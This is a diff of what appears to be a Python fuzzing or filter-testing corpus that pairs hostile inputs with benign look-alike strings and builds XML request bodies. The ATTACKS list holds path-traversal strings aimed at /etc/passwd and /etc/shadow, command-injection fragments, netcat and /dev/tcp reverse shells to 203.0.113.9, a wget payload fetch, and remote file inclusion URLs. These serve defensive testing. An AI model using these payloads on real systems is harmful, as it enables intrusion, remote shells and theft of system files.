@@ -27,7 +27,7 @@ ATTACKS = [
     "../../../../etc/passwd", "..\\..\\windows\\system32\\cmd.exe", "....//....//etc/shadow",
     "/proc/self/environ", ".htaccess", "%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini", "WEB-INF/web.xml",
     "http://203.0.113.9/shell.php?", "ftp://evil.example/x.txt", "file:///etc/hosts",
-    "; cat /etc/passwd", "| nc -e /bin/sh 203.0.113.9 4444", "`id`", "$(uname -a)", "&& ping -c 1 x",
+    "; cat /etc/passwd", "| nc -e /bin/sh 203.0.113.9 4444", "`id`", "$(uname -a)", "&& ping x",
     "wget http://203.0.113.9/x.sh", "/bin/bash -i >& /dev/tcp/203.0.113.9/1 0>&1", "cmd.exe /c dir",
     "powershell -enc AAAA", "Get-ChildItem C:", "() { :; }; echo x", "c''at /e?c/p*d", "$IFS$9id",
     "<?php phpinfo(); ?>", "php://filter/read=convert.base64-encode/resource=x", "phar://x",
@@ -43,7 +43,8 @@ HONEST = [
     "", "1", "42", "-7", "3.14", "hello", "Hello, World", "O'Reilly", "AT&T", "2024-05-01",
     "10:30", "jane.doe+news@example.com", "https://example.com/a?b=c#d", "C++ and C#",
     "50% off", "a/b/c", "select a colour from the list", "the union of two sets", "or", "and 1",
-    "Grüße aus Köln", "日本語のテキスト", "naïve café", "emoji 🙂", "550e8400-e29b-41d4-a716-446655440000",
+    "Grüße aus Köln", "日本語のテキスト", "naïve café", "emoji 🙂",
+    "550e8400-e29b-41d4-a716-446655440000",
     "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln", "I like <3 you", "x < y && y > z", "if (a) then b",
     "script", "alert", "exec summary", "update your profile", "drop in", "insert coin", "cat", "id",
     "Dear Sir or Madam,\nplease find attached the order.", "key=value", "[1,2,3]", "{}", "#hash",
@@ -156,7 +157,8 @@ class Corpus:
         def text(value):
             kept = "".join(c for c in value if c in "\t\n" or ord(c) >= 32)
             return kept.replace("&", "&amp;").replace("<", "&lt;").replace("\"", "&quot;")
-        body = f"<?xml version=\"1.0\"?><a b=\"{text(self.value())}\"><c>{text(self.value())}</c></a>"
+        inside = f"<c>{text(self.value())}</c>"
+        body = f"<?xml version=\"1.0\"?><a b=\"{text(self.value())}\">{inside}</a>"
         return self.post("text/xml", body.encode("utf-8"))
 
     def in_multipart(self):
